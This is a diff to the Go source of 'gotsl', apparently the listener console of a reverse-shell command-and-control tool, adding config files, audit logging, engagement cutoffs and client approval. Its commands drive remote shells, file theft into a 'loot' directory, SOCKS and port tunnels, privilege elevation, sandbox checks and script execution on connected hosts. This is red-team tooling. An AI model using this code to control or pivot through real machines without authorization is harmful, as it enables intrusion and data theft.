@@ -2,22 +2,30 @@ package main
 
 import (
 	"bufio"
+	"context"
 	"crypto/tls"
+	"errors"
 	"flag"
 	"fmt"
 	"io"
 	"log"
 	"net"
 	"os"
+	"runtime"
+	"strconv"
 	"strings"
 	"sync"
+	"sync/atomic"
 	"time"
 
 	"github.com/chzyer/readline"
+	"github.com/frjcomp/gots/pkg/audit"
 	"github.com/frjcomp/gots/pkg/certs"
 	"github.com/frjcomp/gots/pkg/compression"
 	"github.com/frjcomp/gots/pkg/config"
+	"github.com/frjcomp/gots/pkg/geoip"
 	"github.com/frjcomp/gots/pkg/logging"
+	"github.com/frjcomp/gots/pkg/pcap"
 	"github.com/frjcomp/gots/pkg/protocol"
 	"github.com/frjcomp/gots/pkg/server"
 	"github.com/frjcomp/gots/pkg/version"
@@ -41,6 +49,11 @@ func main() {
 	var networkInterface string
 	var logLevel string
 	var quiet bool
+	var configPath string
+	var sealPath string
+	var tuiMode bool
+	var replayPath string
+	var engagementEnd string
 
 	flag.BoolVar(&useSharedSecret, "s", false, "Enable shared secret authentication")
 	flag.BoolVar(&useSharedSecret, "shared-secret", false, "Enable shared secret authentication")
@@ -48,8 +61,40 @@ func main() {
 	flag.StringVar(&networkInterface, "interface", "", "Network interface to bind to (required, no default)")
 	flag.StringVar(&logLevel, "log-level", "", "Log level: error|warn|info|debug (default info)")
 	flag.BoolVar(&quiet, "quiet", false, "Reduce logs to errors only (overrides log-level)")
+	flag.StringVar(&configPath, "config", "", "Path to a JSON listener config file (optional)")
+	flag.StringVar(&sealPath, "seal-client-config", "", "Print a JSON client config sealed for embedding in gotsr (passphrase from "+sealPassphraseEnv+"), then exit")
+	flag.BoolVar(&tuiMode, "tui", false, "Start the multi-pane terminal UI instead of the REPL")
+	flag.StringVar(&replayPath, "replay", "", "Replay a recorded session through the listener's parser and print what it makes of it, then exit")
+	flag.StringVar(&engagementEnd, "engagement-end", "", "End of the engagement, e.g. 2025-10-31T18:00Z: clients are then told to terminate and the REPL turns read-only")
 	flag.Parse()
 
+	if flag.NArg() > 0 {
+		var err error
+		switch flag.Arg(0) {
+		case "protocol":
+			err = runProtocolCommand(flag.Args()[1:], os.Stdout)
+		case "backup":
+			err = runBackupCommand(configPath, flag.Args()[1:], os.Stdout)
+		case "restore":
+			err = runRestoreCommand(flag.Args()[1:], os.Stdout)
+		default:
+			log.Fatalf("Error: unknown command %q", flag.Arg(0))
+		}
+		if err != nil {
+			log.Fatalf("Error: %v", err)
+		}
+		return
+	}
+
+	if sealPath != "" {
+		blob, err := sealClientConfigFile(sealPath, os.Getenv(sealPassphraseEnv))
+		if err != nil {
+			log.Fatal(err)
+		}
+		fmt.Println(blob)
+		return
+	}
+
 	// Initialize logging from env, then apply flags if provided
 	logging.InitFromEnv()
 	if logLevel != "" {
@@ -59,35 +104,58 @@ func main() {
 		logging.SetQuiet(true)
 	}
 
-	// Validate required flags
-	if port == "" {
+	if replayPath != "" {
+		if err := replaySession(replayPath, os.Stdout); err != nil {
+			log.Fatalf("Error: replay: %v", err)
+		}
+		return
+	}
+
+	// Validate required flags (a config file may provide them instead)
+	if port == "" && configPath == "" {
 		log.Fatal("Error: --port flag is required")
 	}
-	if networkInterface == "" {
+	if networkInterface == "" && configPath == "" {
 		log.Fatal("Error: --interface flag is required")
 	}
 
-	if err := runListener(port, networkInterface, useSharedSecret); err != nil {
+	if err := runListener(configPath, port, networkInterface, engagementEnd, useSharedSecret, tuiMode); err != nil {
 		log.Fatal(err)
 	}
 }
 
-func runListener(port, networkInterface string, useSharedSecret bool) error {
+func runListener(configPath, port, networkInterface, engagementEnd string, useSharedSecret, tuiMode bool) error {
 	printHeader()
 
-	// Load configuration with defaults and environment overrides
-	cfg, err := config.LoadServerConfig(port, networkInterface, useSharedSecret)
+	// Load configuration with defaults, optional config file and environment overrides
+	cfg, err := config.LoadServerConfigFromFile(configPath, port, networkInterface, useSharedSecret)
 	if err != nil {
 		return fmt.Errorf("configuration error: %w", err)
 	}
-
-	log.Println("Generating self-signed certificate...")
-	cert, fingerprint, err := certs.GenerateSelfSignedCert()
-	if err != nil {
-		return fmt.Errorf("failed to generate certificate: %w", err)
+	if engagementEnd != "" {
+		cfg.EngagementEnd = engagementEnd
 	}
 
-	log.Printf("Certificate generated successfully (SHA256: %s)", fingerprint)
+	passphrase := keyPassphrase()
+	var cert tls.Certificate
+	var fingerprint string
+	if cfg.CertFile != "" {
+		log.Printf("Loading certificate %s...", cfg.CertFile)
+		if cert, err = loadKeyPair(cfg.CertFile, cfg.KeyFile, passphrase); err != nil {
+			return fmt.Errorf("failed to load certificate: %w", err)
+		}
+		if fingerprint, err = certs.GetCertificateFingerprint(cert); err != nil {
+			return err
+		}
+		log.Printf("Certificate loaded successfully (SHA256: %s)", fingerprint)
+	} else {
+		log.Println("Generating self-signed certificate...")
+		cert, fingerprint, err = certs.GenerateCert(cfg.Certificate.Subject())
+		if err != nil {
+			return fmt.Errorf("failed to generate certificate: %w", err)
+		}
+		log.Printf("Certificate generated successfully (SHA256: %s)", fingerprint)
+	}
 
 	var secret string
 	if cfg.SharedSecretAuth {
@@ -101,6 +169,13 @@ func runListener(port, networkInterface string, useSharedSecret bool) error {
 		log.Printf("  gotsr -s %s --cert-fingerprint %s %s:%s <max-retries>\n", secret, fingerprint, cfg.NetworkInterface, cfg.Port)
 	}
 
+	// Opened after the secret is printed, which must not reach log aggregation
+	logSink, err := startLogSink(cfg.LogSink, cfg.SyslogAddress)
+	if err != nil {
+		return fmt.Errorf("failed to open log sink: %w", err)
+	}
+	defer stopLogSink(logSink)
+
 	log.Printf("Version: %s (commit %s, date %s)", version.Version, version.Commit, version.Date)
 	log.Printf("Configuration: port=%s, interface=%s", cfg.Port, cfg.NetworkInterface)
 
@@ -108,21 +183,162 @@ func runListener(port, networkInterface string, useSharedSecret bool) error {
 	tlsConfig := &tls.Config{
 		Certificates: []tls.Certificate{cert},
 		MinVersion:   tls.VersionTLS12,
+		// Session tickets let reconnecting clients resume instead of doing
+		// a full handshake; ticket keys are rotated automatically.
+		SessionTicketsDisabled: cfg.DisableSessionResumption,
+		NextProtos:             cfg.ALPN,
+	}
+	if cfg.DisableSessionResumption {
+		log.Printf("TLS session resumption: disabled")
 	}
 
 	// Create listener with configuration
 	listener := server.NewListener(cfg.Port, cfg.NetworkInterface, tlsConfig, secret)
-	netListener, err := listener.Start()
+	if cfg.Listen != "" {
+		listener.SetAddress(cfg.Listen)
+	}
+	listener.SetCommandTemplates(cfg.CommandTemplates)
+	profiles, err := buildProfiles(cfg.Profiles, passphrase)
 	if err != nil {
+		return err
+	}
+	listener.SetProfiles(profiles)
+	listener.SetMaxParallelOps(cfg.MaxParallelOps)
+	listener.SetReverseDNS(!cfg.DisableReverseDNS)
+	listener.SetRetryIdempotent(cfg.RetryIdempotent)
+	listener.SetOnConnect(cfg.OnConnect)
+	listener.SetListingCacheTTL(cfg.ListingCacheTTL)
+	listener.SetPtyScrollback(cfg.PtyScrollback)
+	listener.SetMaxResponseSize(cfg.MaxResponseSize)
+	if cfg.RekeyInterval > 0 {
+		listener.SetRekeyInterval(cfg.RekeyInterval)
+		listener.SetRekeyFunc(handleRekeyed(listener))
+		log.Printf("Clients reconnect for new session keys every %s", cfg.RekeyInterval)
+	}
+	if cfg.EngagementEnd != "" {
+		end, err := config.ParseEngagementEnd(cfg.EngagementEnd)
+		if err != nil {
+			return fmt.Errorf("configuration error: %w", err)
+		}
+		listener.SetEngagementEnd(end)
+		if time.Now().Before(end) {
+			log.Printf("Engagement ends at %s (in %s)", end.Format(time.RFC3339), time.Until(end).Round(time.Minute))
+		} else {
+			log.Printf("Warning: engagement ended at %s; new clients are terminated and the REPL is read-only", end.Format(time.RFC3339))
+		}
+	}
+	if cfg.SandboxChecks {
+		listener.SetSandboxChecks(true, cfg.SandboxHostnames)
+		log.Printf("Sandbox checks: enabled")
+	}
+	if cfg.ClientHashesFile != "" {
+		hashes, err := server.ReadClientHashes(cfg.ClientHashesFile)
+		if err != nil {
+			return fmt.Errorf("failed to read client hashes: %w", err)
+		}
+		listener.SetClientHashes(hashes)
+		log.Printf("Integrity checks: %d recorded client builds", len(hashes))
+	}
+	if cfg.RequireApproval {
+		listener.SetRequireApproval(true)
+		log.Printf("New clients wait for 'approve <id>' before accepting commands")
+	}
+	if cfg.RecordDir != "" {
+		listener.SetRecordDir(cfg.RecordDir)
+		log.Printf("Recording sessions to %s", cfg.RecordDir)
+	}
+	if cfg.ScrollbackDir != "" {
+		if err := listener.SetScrollbackDir(cfg.ScrollbackDir); err != nil {
+			return fmt.Errorf("failed to load PTY scrollback: %w", err)
+		}
+		log.Printf("Saving PTY scrollback to %s", cfg.ScrollbackDir)
+	}
+	lootDir = cfg.LootDir
+	maxDownloadSize = cfg.MaxDownloadSize
+	uploadOverwrite = cfg.UploadOverwrite
+	promptTemplate = cfg.PromptTemplate
+	pasteConfirmSize = cfg.PasteConfirmSize
+	for _, w := range cfg.TransferWindows {
+		window, _ := config.ParseTransferWindow(w) // Checked by Validate
+		transferWindows = append(transferWindows, window)
+	}
+	listener.Scheduler().SetJobDone(reportJob)
+	listener.SetWatchHandler(reportWatchEvent(listener))
+	if len(cfg.GeoIPDatabases) > 0 {
+		geo, err := geoip.Open(cfg.GeoIPDatabases...)
+		if err != nil {
+			return err
+		}
+		listener.SetGeoIP(geo)
+		log.Printf("GeoIP databases: %s", strings.Join(cfg.GeoIPDatabases, ", "))
+	}
+	if cfg.SPAListen != "" {
+		key, _ := config.ParseSPAKey(cfg.SPAKey) // Checked by Validate
+		spaAddr, err := listener.EnableSPA(cfg.SPAListen, key, cfg.SPAWindow)
+		if err != nil {
+			return err
+		}
+		log.Printf("Single-packet authorization: required, SPA packets on udp %s admit a client for %s", spaAddr, cfg.SPAWindow)
+	}
+	if _, err := listener.Start(); err != nil {
 		return fmt.Errorf("failed to start listener: %w", err)
 	}
-	defer netListener.Close()
+	defer func() {
+		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+		defer cancel()
+		if err := listener.Shutdown(ctx); err != nil {
+			log.Printf("Listener shutdown: %v", err)
+		}
+	}()
+
+	var auditLog *audit.Logger
+	if cfg.AuditLog != "" {
+		auditLog, err = audit.Open(cfg.AuditLog)
+		if err != nil {
+			return err
+		}
+		defer auditLog.Close()
+		log.Printf("Audit log: %s", cfg.AuditLog)
+	}
+	if logSink != nil {
+		if auditLog == nil {
+			auditLog = audit.New(io.Discard)
+		}
+		mirrorAudit(auditLog, logSink)
+	}
+	if cfg.TunnelCapture != "" {
+		capture, err := pcap.Create(cfg.TunnelCapture)
+		if err != nil {
+			return err
+		}
+		defer capture.Close()
+		listener.SetTunnelCapture(capture)
+		auditLog.Record(audit.Event{Operator: consoleOperator, Action: "tunnel_capture", Allowed: true, Reason: cfg.TunnelCapture})
+		log.Printf("Warning: decrypted forward and SOCKS traffic is captured to %s", cfg.TunnelCapture)
+	}
+
+	apiListener, err := startControlAPI(cfg.ControlAPI, listener, tlsConfig, auditLog)
+	if err != nil {
+		return fmt.Errorf("failed to start control API: %w", err)
+	}
+	if apiListener != nil {
+		defer apiListener.Close()
+	}
 
 	log.Println("Listener ready. Waiting for connections...")
+	if tuiMode {
+		return runTUI(listener)
+	}
 	
 	// Redirect subsequent logs to avoid interfering with readline
 	logRedirector := newLogRedirector()
-	log.SetOutput(logRedirector)
+	log.SetOutput(logging.Tee(logRedirector))
+	// Stream warnings (e.g. oversized responses) go straight to the operator,
+	// independent of the log level
+	listener.SetWarningHandler(func(clientAddr, msg string) {
+		fmt.Fprintf(logRedirector, "⚠️  [%s] %s\n", clientAddr, msg)
+	})
+	listener.SetPromptHandler(newPromptHandler(listener, logRedirector))
 	
 	interactiveShell(listener, logRedirector)
 	return nil
@@ -139,7 +355,7 @@ func interactiveShell(l server.ListenerInterface, logRedirector *logRedirector)
 	completer := &shellCompleter{listener: l}
 	
 	rl, err := readline.NewEx(&readline.Config{
-		Prompt:          "\033[32mgotsl>\033[0m ",
+		Prompt:          coloredPrompt(l),
 		HistoryFile:     "/tmp/.gotsl_history",
 		AutoComplete:    completer,
 		InterruptPrompt: "^C",
@@ -171,100 +387,10 @@ func interactiveShell(l server.ListenerInterface, logRedirector *logRedirector)
 			continue
 		}
 
-		parts := strings.Fields(input)
-		command := parts[0]
-
-		switch command {
-		case "ls", "dir":
-			listClients(l)
-		case "help":
-			printHelp()
-		case "shell":
-			if len(parts) < 2 {
-				fmt.Println("Usage: shell <client_id>")
-				continue
-			}
-			clientAddr := getClientByID(l, parts[1])
-			if clientAddr == "" {
-				continue
-			}
-			enterPtyShell(l, clientAddr)
-		case "upload":
-			if len(parts) != 4 {
-				fmt.Println("Usage: upload <client_id> <local_path> <remote_path>")
-				continue
-			}
-			clientAddr := getClientByID(l, parts[1])
-			if clientAddr == "" {
-				continue
-			}
-			handleUploadGlobal(l, clientAddr, parts[2], parts[3])
-		case "download":
-			if len(parts) != 4 {
-				fmt.Println("Usage: download <client_id> <remote_path> <local_path>")
-				continue
-			}
-			clientAddr := getClientByID(l, parts[1])
-			if clientAddr == "" {
-				continue
-			}
-			handleDownloadGlobal(l, clientAddr, parts[2], parts[3])
-		case "forward":
-			if len(parts) < 2 {
-				fmt.Println("Usage: forward <client_id> <local_port> <remote_addr>")
-				fmt.Println("Example: forward 1 8080 10.0.0.5:80")
-				continue
-			}
-			if len(parts) != 4 {
-				fmt.Println("Usage: forward <client_id> <local_port> <remote_addr>")
-				continue
-			}
-			// Validate remote address format (must be host:port)
-			if !strings.Contains(parts[3], ":") {
-				fmt.Println("Error: remote address must include port (format: host:port)")
-				fmt.Println("Example: forward 1 8080 10.0.0.5:80")
-				fmt.Println("         forward 1 8080 127.0.0.1:8080")
-				continue
-			}
-			clientAddr := getClientByID(l, parts[1])
-			if clientAddr == "" {
-				continue
-			}
-			handleForward(l, clientAddr, parts[2], parts[3])
-		case "forwards":
-			listForwards(l)
-		case "socks":
-			// If no args: list active SOCKS proxies
-			if len(parts) == 1 {
-				listSocks(l)
-				continue
-			}
-			// Expect: socks <client_id> <local_port>
-			if len(parts) != 3 {
-				fmt.Println("Usage: socks <client_id> <local_port>")
-				fmt.Println("Example: socks 1 1080")
-				continue
-			}
-			clientAddr := getClientByID(l, parts[1])
-			if clientAddr == "" {
-				continue
-			}
-			handleSocks(l, clientAddr, parts[2])
-		case "stop":
-			if len(parts) < 2 {
-				fmt.Println("Usage: stop forward <id> | stop socks <id>")
-				continue
-			}
-			if len(parts) != 3 {
-				fmt.Println("Usage: stop forward <id> | stop socks <id>")
-				continue
-			}
-			handleStop(l, parts[1], parts[2])
-		case "exit":
+		if !dispatchCommand(l, strings.Fields(input)) {
 			return
-		default:
-			fmt.Printf("Unknown command: %s (type 'help' or see available commands above)\n", command)
 		}
+		rl.SetPrompt(coloredPrompt(l))
 	}
 }
 
@@ -275,7 +401,7 @@ func interactiveShellBasic(l server.ListenerInterface) {
 	printHelp()
 
 	for {
-		fmt.Print("gotsl> ")
+		fmt.Print(replPrompt(l))
 		line, err := reader.ReadString('\n')
 		if err != nil {
 			return
@@ -286,126 +412,366 @@ func interactiveShellBasic(l server.ListenerInterface) {
 			continue
 		}
 
-		parts := strings.Fields(input)
-		command := parts[0]
+		if !dispatchCommand(l, strings.Fields(input)) {
+			return
+		}
+	}
+}
 
-		switch command {
-		case "ls", "dir":
-			listClients(l)
-		case "help":
-			printHelp()
-		case "shell":
-			if len(parts) < 2 {
-				fmt.Println("Usage: shell <client_id>")
-				continue
-			}
-			clientAddr := getClientByID(l, parts[1])
-			if clientAddr == "" {
-				continue
-			}
+// dispatchCommand runs one REPL command line. It returns false when the
+// shell should exit.
+func dispatchCommand(l server.ListenerInterface, parts []string) bool {
+	replBusy.Store(true)
+	defer replBusy.Store(false)
+	command := parts[0]
+	if !allowedAfterEngagement(l, parts) {
+		return true
+	}
+
+	switch command {
+	case "ls", "dir":
+		if len(parts) > 2 || len(parts) == 2 && parts[1] != "-v" {
+			fmt.Println("Usage: ls [-v]")
+			return true
+		}
+		listClients(l, len(parts) == 2)
+	case "help":
+		printHelp()
+	case "assets":
+		handleAssets(l, parts[1:])
+	case "browse":
+		handleBrowse(l, parts[1:])
+	case "use":
+		handleUse(l, parts[1:])
+	case "shell":
+		args, override := splitFlags(parts[1:], overrideFlag)
+		clientAddr := currentClient(l)
+		if len(args) >= 1 {
+			clientAddr = getClientByID(l, args[0])
+		} else if clientAddr == "" {
+			fmt.Println("Usage: shell [--override] <client_id>")
+			return true
+		}
+		if clientAddr == "" {
+			return true
+		}
+		runLocked(l, clientAddr, "pty", len(override) > 0, func() {
 			enterPtyShell(l, clientAddr)
-		case "upload":
-			if len(parts) != 4 {
-				fmt.Println("Usage: upload <client_id> <local_path> <remote_path>")
-				continue
-			}
-			clientAddr := getClientByID(l, parts[1])
-			if clientAddr == "" {
-				continue
-			}
-			handleUploadGlobal(l, clientAddr, parts[2], parts[3])
-		case "download":
-			if len(parts) != 4 {
-				fmt.Println("Usage: download <client_id> <remote_path> <local_path>")
-				continue
-			}
-			clientAddr := getClientByID(l, parts[1])
-			if clientAddr == "" {
-				continue
-			}
-			handleDownloadGlobal(l, clientAddr, parts[2], parts[3])
-		case "forward":
-			if len(parts) < 2 {
-				fmt.Println("Usage: forward <client_id> <local_port> <remote_addr>")
-				fmt.Println("Example: forward 1 8080 10.0.0.5:80")
-				continue
-			}
-			if len(parts) != 4 {
-				fmt.Println("Usage: forward <client_id> <local_port> <remote_addr>")
-				continue
-			}
-			if !strings.Contains(parts[3], ":") {
-				fmt.Println("Error: remote address must include port (format: host:port)")
-				fmt.Println("Example: forward 1 8080 10.0.0.5:80")
-				fmt.Println("         forward 1 8080 127.0.0.1:8080")
-				continue
-			}
-			clientAddr := getClientByID(l, parts[1])
-			if clientAddr == "" {
-				continue
-			}
-			handleForward(l, clientAddr, parts[2], parts[3])
-		case "forwards":
-			listForwards(l)
-		case "socks":
-			if len(parts) == 1 {
-				listSocks(l)
-				continue
-			}
-			if len(parts) != 3 {
-				fmt.Println("Usage: socks <client_id> <local_port>")
-				fmt.Println("Example: socks 1 1080")
-				continue
-			}
-			clientAddr := getClientByID(l, parts[1])
-			if clientAddr == "" {
-				continue
-			}
-			handleSocks(l, clientAddr, parts[2])
-		case "stop":
-			if len(parts) < 2 {
-				fmt.Println("Usage: stop forward <id> | stop socks <id>")
-				continue
-			}
-			if len(parts) != 3 {
-				fmt.Println("Usage: stop forward <id> | stop socks <id>")
-				continue
-			}
-			handleStop(l, parts[1], parts[2])
-		case "exit":
-			return
-		default:
-			fmt.Printf("Unknown command: %s (type 'help' or see available commands above)\n", command)
+		})
+	case "upload":
+		args, override := splitFlags(parts[1:], overrideFlag)
+		args, flags := splitFlags(args, "--force", "--rename", "--no-clobber")
+		args, text := splitFlags(args, textFlag)
+		args, window := splitFlags(args, windowFlag)
+		args, at, err := splitValueFlag(args, atFlag)
+		if err != nil || len(args) != 3 || len(flags) > 1 {
+			fmt.Println("Usage: upload [--force | --rename | --no-clobber] [--text] [--at HH:MM | --window] [--override] <client_id> <local_path> <remote_path>")
+			return true
+		}
+		start, err := transferStart(at, len(window) > 0, time.Now())
+		if err != nil {
+			fmt.Printf("Error: %v\n", err)
+			return true
+		}
+		clientAddr := getClientByID(l, args[0])
+		if clientAddr == "" {
+			return true
+		}
+		warnDegradedLink(l, clientAddr)
+		policy := uploadOverwrite
+		if len(flags) == 1 {
+			policy = uploadPolicyFlags[flags[0]]
+		}
+		keys := []string{server.ResponseKey, server.PathKey(args[2])}
+		if !start.IsZero() {
+			if _, err := os.Stat(args[1]); err != nil {
+				fmt.Printf("Error: %v\n", err)
+				return true
+			}
+			scheduleTransfer(l, clientAddr, start, "upload", fmt.Sprintf("upload %s -> %s", args[1], args[2]), keys, len(override) > 0, func(clientAddr string) bool {
+				return handleUploadGlobal(l, clientAddr, args[1], args[2], policy, len(text) > 0)
+			})
+			return true
+		}
+		runLocked(l, clientAddr, "upload", len(override) > 0, func() {
+			runScheduled(l, clientAddr, keys, func() {
+				handleUploadGlobal(l, clientAddr, args[1], args[2], policy, len(text) > 0)
+			})
+		})
+	case "download":
+		args, override := splitFlags(parts[1:], overrideFlag)
+		args, flags := splitFlags(args, "--force")
+		args, text := splitFlags(args, textFlag)
+		args, window := splitFlags(args, windowFlag)
+		args, at, err := splitValueFlag(args, atFlag)
+		if err != nil || len(args) != 2 && len(args) != 3 {
+			fmt.Println("Usage: download [--force] [--text] [--at HH:MM | --window] [--override] <client_id> <remote_path> [local_path]")
+			return true
+		}
+		start, err := transferStart(at, len(window) > 0, time.Now())
+		if err != nil {
+			fmt.Printf("Error: %v\n", err)
+			return true
+		}
+		clientAddr := getClientByID(l, args[0])
+		if clientAddr == "" {
+			return true
+		}
+		warnDegradedLink(l, clientAddr)
+		var localArg string
+		if len(args) == 3 {
+			localArg = args[2]
+		}
+		localPath, err := downloadTarget(l, clientAddr, args[1], localArg)
+		if err != nil {
+			fmt.Printf("Error: %v\n", err)
+			return true
+		}
+		maxSize := maxDownloadSize
+		if len(flags) > 0 {
+			maxSize = 0
+		}
+		keys := []string{server.ResponseKey, server.PathKey(args[1])}
+		if !start.IsZero() {
+			scheduleTransfer(l, clientAddr, start, "download", fmt.Sprintf("download %s -> %s", args[1], localPath), keys, len(override) > 0, func(clientAddr string) bool {
+				return handleDownloadGlobal(l, clientAddr, args[1], localPath, maxSize, len(text) > 0, false)
+			})
+			return true
+		}
+		runLocked(l, clientAddr, "download", len(override) > 0, func() {
+			runScheduled(l, clientAddr, keys, func() {
+				handleDownloadGlobal(l, clientAddr, args[1], localPath, maxSize, len(text) > 0, true)
+			})
+		})
+	case "sync":
+		args, override := splitFlags(parts[1:], overrideFlag)
+		args, pull := splitFlags(args, pullFlag)
+		args, del := splitFlags(args, deleteFlag)
+		if len(args) != 3 {
+			fmt.Println("Usage: sync [--pull] [--delete] [--override] <client_id> <local_dir> <remote_dir>")
+			return true
 		}
+		clientAddr := getClientByID(l, args[0])
+		if clientAddr == "" {
+			return true
+		}
+		warnDegradedLink(l, clientAddr)
+		runLocked(l, clientAddr, "sync", len(override) > 0, func() {
+			runScheduled(l, clientAddr, []string{server.ResponseKey, server.PathKey(args[2])}, func() {
+				handleSync(l, clientAddr, args[1], args[2], len(pull) > 0, len(del) > 0)
+			})
+		})
+	case "watch":
+		handleWatch(l, parts[1:])
+	case "unwatch":
+		handleUnwatch(l, parts[1:])
+	case "forward":
+		if len(parts) < 2 {
+			fmt.Println("Usage: forward <client_id> <local_port> <remote_addr>")
+			fmt.Println("Example: forward 1 8080 10.0.0.5:80")
+			return true
+		}
+		if len(parts) != 4 {
+			fmt.Println("Usage: forward <client_id> <local_port> <remote_addr>")
+			return true
+		}
+		// Validate remote address format (must be host:port)
+		if !strings.Contains(parts[3], ":") {
+			fmt.Println("Error: remote address must include port (format: host:port)")
+			fmt.Println("Example: forward 1 8080 10.0.0.5:80")
+			fmt.Println("         forward 1 8080 127.0.0.1:8080")
+			return true
+		}
+		clientAddr := getClientByID(l, parts[1])
+		if clientAddr == "" {
+			return true
+		}
+		if !requireCapability(l, clientAddr, protocol.CapForward) || !requireApproved(l, clientAddr) {
+			return true
+		}
+		if isPipeTarget(parts[3]) && !requireCapability(l, clientAddr, protocol.CapPipe) {
+			return true
+		}
+		handleForward(l, clientAddr, parts[2], parts[3])
+	case "pipe":
+		if len(parts) != 4 || !strings.Contains(parts[3], ":") {
+			fmt.Println("Usage: pipe <client_id> <pipe_name> <target_host:port>")
+			fmt.Println("Example: pipe 1 spoolss 127.0.0.1:4455")
+			return true
+		}
+		clientAddr := getClientByID(l, parts[1])
+		if clientAddr == "" {
+			return true
+		}
+		handlePipe(l, clientAddr, parts[2], parts[3])
+	case "jobs":
+		handleJobs(l, parts[1:])
+	case "forwards":
+		listForwards(l)
+	case "top":
+		handleTop(l, parts[1:])
+	case "socks":
+		// If no args: list active SOCKS proxies
+		if len(parts) == 1 {
+			listSocks(l)
+			return true
+		}
+		// Expect: socks [--test] <client_id> <local_port>
+		args, test := splitFlags(parts[1:], selfTestFlag)
+		if len(args) != 2 {
+			fmt.Println("Usage: socks [--test] <client_id> <local_port>")
+			fmt.Println("Example: socks 1 1080")
+			return true
+		}
+		clientAddr := getClientByID(l, args[0])
+		if clientAddr == "" {
+			return true
+		}
+		if !requireCapability(l, clientAddr, protocol.CapSocks) || !requireApproved(l, clientAddr) {
+			return true
+		}
+		handleSocks(l, clientAddr, args[1], len(test) > 0)
+	case "stop":
+		if len(parts) < 2 {
+			fmt.Println("Usage: stop forward <id> | stop socks <id>")
+			return true
+		}
+		if len(parts) != 3 {
+			fmt.Println("Usage: stop forward <id> | stop socks <id>")
+			return true
+		}
+		handleStop(l, parts[1], parts[2])
+	case "elevate":
+		if len(parts) < 2 {
+			fmt.Println(elevateUsage)
+			return true
+		}
+		clientAddr := getClientByID(l, parts[1])
+		if clientAddr == "" {
+			return true
+		}
+		handleElevate(l, clientAddr, parts[2:])
+	case "secret":
+		if len(parts) < 2 {
+			fmt.Println("Usage: secret <client_id> [--cancel]")
+			return true
+		}
+		clientAddr := getClientByID(l, parts[1])
+		if clientAddr == "" {
+			return true
+		}
+		handleSecret(l, clientAddr, parts[2:])
+	case "kill":
+		handleKill(l, parts[1:])
+	case "migrate":
+		handleMigrate(l, parts[1:])
+	case "approve":
+		handleApprove(l, parts[1:])
+	case "cmdtpl":
+		handleCmdtpl(l, parts[1:])
+	case "py", "ps1":
+		handleScript(l, command, parts[1:])
+	case "runas":
+		handleRunAs(l, parts[1:])
+	case "patch":
+		handlePatch(l, parts[1:])
+	case "setenv-file":
+		handleSetenvFile(l, parts[1:])
+	case "file":
+		handleFile(l, parts[1:])
+	case "head":
+		handleHead(l, parts[1:], false)
+	case "hexdump":
+		handleHead(l, parts[1:], true)
+	case "caps":
+		if len(parts) != 2 {
+			fmt.Println("Usage: caps <client_id>")
+			return true
+		}
+		if clientAddr := getClientByID(l, parts[1]); clientAddr != "" {
+			handleCaps(l, clientAddr)
+		}
+	case "sysinfo":
+		if len(parts) != 2 {
+			fmt.Println("Usage: sysinfo <client_id>")
+			return true
+		}
+		if clientAddr := getClientByID(l, parts[1]); clientAddr != "" {
+			handleSysinfo(l, clientAddr)
+		}
+	case "debug":
+		handleDebug(l, parts[1:])
+	case "exit":
+		return false
+	default:
+		fmt.Printf("Unknown command: %s (type 'help' or see available commands above)\n", command)
 	}
+	return true
 }
 
 func printHelp() {
 	fmt.Println("\nCommands:")
-	fmt.Println("  ls                          - List connected clients")
-	fmt.Println("  shell <client_id>           - Open interactive PTY shell with client")
-	fmt.Println("  upload <id> <local> <remote> - Upload local file to remote path on client")
-	fmt.Println("  download <id> <remote> <local> - Download remote file from client")
+	fmt.Println("  ls [-v]                     - List connected clients (-v adds GeoIP/ASN data)")
+	fmt.Println("  assets [machine_id]         - List hosts seen across reconnects, or one host's history")
+	fmt.Println("  browse [<id> [dir]]         - Browse directory listings collected from a host, also once it is offline")
+	fmt.Println("  use [<client_id> | none]    - Select a client for the prompt and for shell without an ID")
+	fmt.Println("  shell [client_id]           - Open interactive PTY shell with client")
+	fmt.Println("  upload [--force|--rename|--no-clobber] [--text] <id> <local> <remote> - Upload local file to remote path on client")
+	fmt.Println("  download [--force] [--text] <id> <remote> [local] - Download remote file from client (default: into the loot directory)")
+	fmt.Println("  sync [--pull] [--delete] <id> <local_dir> <remote_dir> - Mirror a local directory to the client, or the client's to local with --pull")
+	fmt.Println("  jobs [cancel <job_id>]      - List or cancel transfers deferred with --at HH:MM or --window")
+	fmt.Println("  watch [[--content] <id> <path>] - Report changes to a remote file or directory, or list watches")
+	fmt.Println("  unwatch <watch_id>          - Stop a watch")
+	fmt.Println("  file <id> <remote>          - Show the type and size of a remote file")
+	fmt.Println("  head <id> <remote> [n]      - Show the first n bytes of a remote file (default 1024)")
+	fmt.Println("  hexdump <id> <remote> [n]   - Hex dump the first n bytes of a remote file (default 256)")
+	fmt.Println("  patch <id> <remote> --offset <n> --bytes <hex> [--expect <hex>] - Overwrite bytes of a remote file in place, keeping a .bak copy")
+	fmt.Println("  setenv-file <id> [<remote_path> | --clear] - Source a remote environment file (PATH, proxies, locale) before every non-PTY command")
+	fmt.Println("  caps <id>                   - Show which features and transports the client supports")
+	fmt.Println("  sysinfo <id>                - Show the client's CPU, memory and network usage and its limits")
 	fmt.Println("  forward <id> <local_port> <remote_addr> - Forward local port to remote address through client")
+	fmt.Println("                                (remote_addr may be pipe:<name> for a named pipe on a Windows client)")
+	fmt.Println("  pipe <id> <pipe_name> <target> - Serve a named pipe on a Windows client, relayed to target from here")
 	fmt.Println("  forwards                    - List active port forwards")
 	fmt.Println("  socks                       - List active SOCKS5 proxies")
-	fmt.Println("  socks <id> <local_port>     - Start SOCKS5 proxy on local port through client")
+	fmt.Println("  socks [--test] <id> <local_port> - Start SOCKS5 proxy on local port through client; --test checks it end to end")
+	fmt.Println("  top                         - Show the busiest sessions and tunnels, refreshed every second until a key is pressed")
 	fmt.Println("  stop forward <id>           - Stop a port forward by ID")
 	fmt.Println("  stop socks <id>             - Stop a SOCKS5 proxy by ID")
+	fmt.Println("  elevate <id> [--sudo [--prompt] | --uac --user <u>] - Report or raise privileges")
+	fmt.Println("  secret <id> [--cancel]      - Answer a password prompt from a non-PTY command")
+	fmt.Println("  kill <id> | kill --duplicates - Terminate a client so it does not reconnect")
+	fmt.Println("  migrate <old_id> <new_id>   - Move tags, scheduled jobs and tunnels to a new session on the same host, then retire the old one")
+	fmt.Println("  approve <id>                - Let a client pending approval accept commands, transfers and tunnels")
+	fmt.Println("  py <id> <code|@file>        - Run a Python snippet or local script on the client, fed to python3/python/py on stdin")
